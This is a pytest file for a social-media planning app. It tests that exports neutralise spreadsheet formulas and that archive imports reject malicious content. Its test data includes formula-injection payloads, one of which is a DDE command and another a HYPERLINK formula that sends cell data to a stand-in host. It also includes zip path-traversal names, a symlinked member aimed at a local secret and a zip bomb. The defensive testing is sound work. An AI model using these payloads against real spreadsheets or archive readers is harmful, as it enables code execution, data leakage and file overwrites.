"""Archives: everything in one file, taken up by another desk; and cells that never run in a spreadsheet."""

import csv
import io
import json
import stat
import zipfile
from contextlib import suppress
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smmdesk.app import close_desk, open_desk
from smmdesk.desk import archive, contributions, first_start, forgetting, importing, planning, undo
from smmdesk.desk.cells import bare, safe
from smmdesk.desk.demo import fill
from smmdesk.desk.desk import Desk
from smmdesk.desk.import_archive import look
from smmdesk.desk.import_errors import ImportBadError
from smmdesk.model.brand import Brand
from smmdesk.model.channel import Channel, ChannelStatus
from smmdesk.model.contribution import Contribution
from smmdesk.model.delivery import Part, State
from smmdesk.model.media import Asset
from smmdesk.model.moment import Moment
from smmdesk.model.numbers import Count
from smmdesk.model.person import Person
from smmdesk.model.polls import Choice, PollResult
from smmdesk.model.post import Post, progress
from smmdesk.model.problem import ProblemError
from smmdesk.store import numbers, polls
from smmdesk.system.clock import ManualClock
from smmdesk.system.paths import Paths
from tests.desk.heard import person, wrote
from tests.desk.support import (
    add_channel,
    add_post,
    bare_post,
    edited,
    everything,
    made_desk,
    rome,
    states,
)
from tests.fakes.reach import made_bench

FORMULAS = ["=1+1", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x?"&A1,"ok")', "＝1+1"]


# ------------------------------------------------------------------ cells
@pytest.mark.parametrize(
    "text", [pytest.param(text, marks=pytest.mark.vector(number)) for number, text in enumerate(FORMULAS, start=55)]
)
def test_no_cell_runs_in_a_spreadsheet(desk: Desk, brand: Brand, tmp_path: Path, text: str) -> None:
    add_post(desk, brand, text)
    archive.export_csv(desk, tmp_path / "out.csv")
    [row] = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert row["text"] == "'" + text


@given(st.text())
def test_every_cell_comes_back_as_it_was(text: str) -> None:
    assert bare(safe(text)) == text
    assert not safe(text).lstrip(" \n\v\f").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))


# ------------------------------------------------------------------ the archive
def count_something(desk: Desk) -> None:
    """A post that is out has numbers, and a channel followers."""
    with desk.store.transaction() as tx:
        out = [part for part in tx.all(Part) if part.state is State.PUBLISHED]
        today = desk.clock.now().date()
        assert numbers.note(tx, out[0].id, {Count.VIEWS: 312, Count.LIKES: 0}, desk.now_us(), today)
        assert numbers.note_followers(tx, tx.all(Channel)[0].id, today, 120)
        assert polls.note(tx, out[0].id, PollResult((Choice("Apricot", 31), Choice("Chocolate")), 50), desk.now_us())


def numbers_of(desk: Desk) -> list[object]:
    """What is known of the posts' numbers and the channels' followers, now and by days."""
    with desk.store.reading() as reader:
        kept = numbers.kept(
            reader,
            [post.id for post in reader.all(Post)],
            [channel.id for channel in reader.all(Channel)],
        )
    return sorted(kept.latest) + sorted(kept.by_day) + sorted(kept.followers) + sorted(kept.polls)


def test_an_archive_makes_the_same_calendar_on_another_computer(desk: Desk, tmp_path: Path, clock: ManualClock) -> None:
    fill(desk)
    count_something(desk)
    archive.export_archive(desk, tmp_path / "all.zip")
    with made_desk(Paths(tmp_path / "other"), clock) as other:
        planning.first_brand(other)
        plan = importing.read_import(other, tmp_path / "all.zip")
        done = importing.apply_import(other, plan)
        assert done.new == len(everything(desk))
        assert {k: bare_post(v) for k, v in everything(other).items()} == {
            k: bare_post(v) for k, v in everything(desk).items()
        }
        with desk.store.reading() as here, other.store.reading() as there:
            assert [brand.name for brand in there.all(Brand)] == ["Forno Lucia"]
            for post in here.all(Post):
                assert progress(post, there.deliveries_of(post.id)) == progress(post, here.deliveries_of(post.id))
            for asset in here.all(Asset):
                assert other.files.is_sound(asset.sha256)
            assert numbers_of(other) == numbers_of(desk) != []
            homes = {d.home for post in there.all(Post) for d in there.deliveries_of(post.id)}
            assert homes == {desk.device}  # so that this computer asks before it sends anything
        again = importing.read_import(other, tmp_path / "all.zip")
        assert (again.new_count, again.same) == (0, done.new)
        assert importing.apply_import(other, again).new == 0
        assert planning.first_brand(other).name == "Forno Lucia"


@pytest.mark.statement(111)
async def test_on_a_new_computer_nothing_is_sent_and_the_channels_ask_to_sign_in(
    desk: Desk, brand: Brand, tmp_path: Path, clock: ManualClock
) -> None:
    """J9: the calendar is the same, and days go by without anything leaving the new computer by itself."""
    channel = add_channel(desk, brand, "Forno", server="https://forno.example")
    practice = add_channel(desk, brand, "Prova")
    posts = [add_post(desk, brand, channel.name, channel) for channel in (channel, practice)]
    for post in posts:
        planning.schedule(desk, post.id, rome("2026-11-18 12:00"))
    archive.export_archive(desk, tmp_path / "all.zip")
    other = open_desk(Paths(tmp_path / "other"), clock)
    try:
        importing.apply_import(other, importing.read_import(other, tmp_path / "all.zip"))
        assert states(other, posts[0]) == states(desk, posts[0]) == [["scheduled"]]
        with other.store.reading() as reader:
            assert reader.get(Channel, channel.id).is_new_here
        with made_bench(other, clock, brand) as bench:
            await bench.pass_time(timedelta(hours=30), tick=timedelta(minutes=20))
            assert bench.texts() == []
            assert {part.state for post in posts for part in bench.parts(post)} == {State.SCHEDULED}
    finally:
        await close_desk(other)


async def test_what_a_first_start_made_makes_room_for_the_calendar_that_comes(
    desk: Desk, tmp_path: Path, clock: ManualClock
) -> None:
    """The first start makes a brand and a practice channel; both go when a whole calendar is brought in, and one step
    back brings them again."""
    fill(desk)
    archive.export_archive(desk, tmp_path / "all.zip")
    other = open_desk(Paths(tmp_path / "other"), clock)
    try:
        begun = await first_start.begin(other)
        assert begun is not None
        importing.apply_import(other, importing.read_import(other, tmp_path / "all.zip"))
        with other.store.reading() as reader:
            assert [brand.name for brand in reader.all(Brand)] == ["Forno Lucia"]
            assert begun.id not in {channel.id for channel in reader.all(Channel)}
        undo.undo(other)
        with other.store.reading() as reader:
            assert [channel.id for channel in reader.all(Channel)] == [begun.id]
    finally:
        await close_desk(other)


def test_an_archive_that_was_taken_up_can_be_undone_and_done_again(
    desk: Desk, tmp_path: Path, clock: ManualClock
) -> None:
    fill(desk)
    archive.export_archive(desk, tmp_path / "all.zip")
    with made_desk(Paths(tmp_path / "other"), clock) as other:
        own = planning.first_brand(other)
        count = importing.apply_import(other, importing.read_import(other, tmp_path / "all.zip")).new
        assert undo.undo(other).label == f"import of {count} posts"
        assert everything(other) == {}
        assert planning.first_brand(other).id == own.id
        undo.redo(other)
        assert len(everything(other)) == count


def test_an_archive_joins_what_is_here_and_changes_none_of_it(
    desk: Desk, brand: Brand, tmp_path: Path, clock: ManualClock
) -> None:
    post = add_post(desk, brand, "Pane", add_channel(desk, brand))
    archive.export_archive(desk, tmp_path / "all.zip")
    newer = planning.save_post(desk, edited(post, "Pane nero"))
    plan = importing.read_import(desk, tmp_path / "all.zip")
    importing.apply_import(desk, plan)
    assert everything(desk) == {post.id: newer}


def test_an_archive_holds_no_sign_in(desk: Desk, brand: Brand, tmp_path: Path, clock: ManualClock) -> None:
    import asyncio

    from smmdesk.store import sealed
    from smmdesk.system.secrets import Secret

    channel = add_channel(desk, brand, "Mastodon", platform="mastodon", server="https://m.example")
    asyncio.run(desk.vault.keep_until_quit())
    with desk.store.transaction() as tx:
        owner = sealed.channel_owner(channel.id)
        sealed.put(tx, desk.vault.seal(owner, channel.server, Secret("CANARY-token"), desk.now_us()))
        kept = sealed.find(tx, owner)
    assert kept is not None
    archive.export_archive(desk, tmp_path / "all.zip")
    with zipfile.ZipFile(tmp_path / "all.zip") as found:
        inside = found.read("desk.sqlite")
    assert kept.ciphertext not in inside
    with made_desk(Paths(tmp_path / "other"), clock) as other:
        importing.apply_import(other, importing.read_import(other, tmp_path / "all.zip"))
        with other.store.reading() as reader:
            assert reader.get(Channel, channel.id).status is ChannelStatus.SIGNED_OUT


def changed_zip(source: Path, target: Path, **members: bytes | None) -> Path:
    """A copy of an archive with some members other than they were (None: left out)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, data in members.items():
            if data is not None:
                new.writestr(name, data)
    return target


@pytest.mark.parametrize(
    "member",
    [
        pytest.param("../../evil.txt", marks=pytest.mark.vector(47)),
        pytest.param("media/../x", marks=pytest.mark.vector(47)),
        pytest.param("/abs", marks=pytest.mark.vector(48)),
        pytest.param("C:\\evil", marks=pytest.mark.vector(49)),
        pytest.param("con.txt", marks=pytest.mark.vector(51)),
        pytest.param("NUL", marks=pytest.mark.vector(51)),
        pytest.param("a.txt:stream", marks=pytest.mark.vector(51)),
        pytest.param("media/photo. ", marks=pytest.mark.vector(51)),
        pytest.param("A.png", marks=pytest.mark.vector(52)),
        "media/" + "A" * 64,
        "media/short",
        "x/",
    ],
)
def test_an_archive_with_a_strange_name_inside_is_refused(
    desk: Desk, brand: Brand, tmp_path: Path, member: str
) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    bad = changed_zip(tmp_path / "all.zip", tmp_path / "bad.zip", **{member: b"x"})
    with pytest.raises(ImportBadError):
        look(desk, bad)
    assert not (tmp_path / "evil.txt").exists()


@pytest.mark.vector(50)
@pytest.mark.parametrize("named", ["media/" + "0" * 64, "desk.sqlite", "photo"])
def test_a_link_inside_an_archive_is_not_followed(desk: Desk, brand: Brand, tmp_path: Path, named: str) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    secret = tmp_path / "secret.txt"
    secret.write_text("of this computer alone")
    bad = changed_zip(tmp_path / "all.zip", tmp_path / "bad.zip", **{named: None})
    link = zipfile.ZipInfo(named)
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(bad, "a") as archived:
        archived.writestr(link, str(secret))
    with suppress(ProblemError):
        importing.apply_import(desk, importing.read_import(desk, bad))
    kept = [path for path in desk.paths.folder.rglob("*") if path.is_symlink() or path.name == "0" * 64]
    assert kept == []


@pytest.mark.vector(53)
@pytest.mark.parametrize(
    "members",
    [
        {"manifest.json": None},
        {"desk.sqlite": None},
        {"desk.sqlite": b"SQLite format 3\0" + bytes(5000)},
        {"manifest.json": b"{}"},
        {"manifest.json": b"[" * 100_000},
        {"manifest.json": b'{"format": "smmdesk archive", "version": 9999, "files": {}}'},
    ],
)
def test_a_broken_archive_is_refused_and_leaves_nothing(
    desk: Desk, brand: Brand, tmp_path: Path, members: dict[str, bytes | None]
) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    bad = changed_zip(tmp_path / "all.zip", tmp_path / "bad.zip", **members)
    with pytest.raises(ProblemError, match="import_bad"):
        importing.read_import(desk, bad)
    assert list(desk.paths.cache.glob("import-*")) == []


@pytest.mark.statement(114)
def test_an_archive_of_a_newer_version_says_so(desk: Desk, brand: Brand, tmp_path: Path) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    manifest = b'{"format": "smmdesk archive", "version": 9999, "files": {}}'
    later = changed_zip(tmp_path / "all.zip", tmp_path / "later.zip", **{"manifest.json": manifest})
    with pytest.raises(ProblemError) as caught:
        importing.read_import(desk, later)
    assert "It was made with a newer smmdesk." in f"{caught.value.problem.title} {caught.value.problem.advice}"


@pytest.mark.vector(53)
def test_a_zip_bomb_is_refused_before_it_is_opened(desk: Desk, brand: Brand, tmp_path: Path) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    with zipfile.ZipFile(tmp_path / "all.zip", "a", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("media/" + "0" * 64, bytes(50_000_000))
    with pytest.raises(ImportBadError):
        look(desk, tmp_path / "all.zip")


@pytest.mark.vector(54)
def test_a_photo_that_is_not_what_its_name_says_is_left_out(
    desk: Desk, brand: Brand, full: Post, tmp_path: Path, clock: ManualClock
) -> None:
    archive.export_archive(desk, tmp_path / "all.zip")
    with zipfile.ZipFile(tmp_path / "all.zip") as found:
        [name] = [name for name in found.namelist() if name.startswith("media/")]
    bad = changed_zip(tmp_path / "all.zip", tmp_path / "bad.zip", **{name: b"something else"})
    with made_desk(Paths(tmp_path / "other"), clock) as other:
        importing.apply_import(other, importing.read_import(other, bad))
        assert len(everything(other)) == 1
        assert not other.files.has(name.removeprefix("media/"))


def test_an_export_into_a_place_that_is_none_says_so(desk: Desk, brand: Brand, tmp_path: Path) -> None:
    (tmp_path / "folder.csv").mkdir()
    for path in (tmp_path / "none" / "a.csv", tmp_path / "folder.csv"):
        with pytest.raises(ProblemError, match="folder_not_writable"):
            archive.export_csv(desk, path)


def test_moments_keep_their_zone_through_every_file(desk: Desk, brand: Brand, tmp_path: Path) -> None:
    post = add_post(desk, brand, "Pane", planned=Moment(datetime(2027, 3, 1, 9), "America/New_York"))
    for kind in ("csv", "json", "ics"):
        archive.export(desk, kind, tmp_path / f"a.{kind}")
        plan = importing.read_import(desk, tmp_path / f"a.{kind}")
        assert plan.same == 1, (kind, plan.changed, post)


def test_tables_and_json_carry_the_numbers(desk: Desk, tmp_path: Path) -> None:
    fill(desk)
    archive.export_csv(desk, tmp_path / "out.csv")
    archive.export_json(desk, tmp_path / "out.json")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"), newline="")))
    told = json.loads((tmp_path / "out.json").read_text("utf-8"))["posts"]
    likes = {row["id"]: row["likes"] for row in rows}
    assert any(likes.values())
    assert not all(likes.values())
    for post in told:
        known = [channel["likes"] for channel in post["numbers"].values()]
        assert likes[post["id"]] == (str(sum(known)) if known else "")
        assert all(channel["as_of"].startswith("2026-") for channel in post["numbers"].values())
    assert {row["saves"] for row in rows} == {""}, "practice does not tell them: that is not nought"
    plan = importing.read_import(desk, tmp_path / "out.csv")
    assert (plan.new, plan.changed, plan.problems) == ((), (), ())


def test_whom_we_have_forgotten_does_not_come_back_with_an_archive(desk: Desk, brand: Brand, tmp_path: Path) -> None:
    channel = add_channel(desk, brand, "Shop window")
    anna, bea = person(desk, channel), person(desk, channel, "Bea")
    kept = [
        contributions.from_message(desk, wrote(desk, channel, "The best bread", by=each).id) for each in (anna, bea)
    ]
    archive.export_archive(desk, tmp_path / "all.zip")
    forgetting.forget(desk, anna.id)
    importing.apply_import(desk, importing.read_import(desk, tmp_path / "all.zip"))
    with desk.store.reading() as reader:
        assert [each.id for each in reader.all(Person, deleted=True)] == [bea.id]
        assert [each.id for each in reader.all(Contribution, deleted=True)] == [kept[1].id]
    undo.undo(desk)
    with desk.store.reading() as reader:
        assert reader.find(Person, anna.id) is None
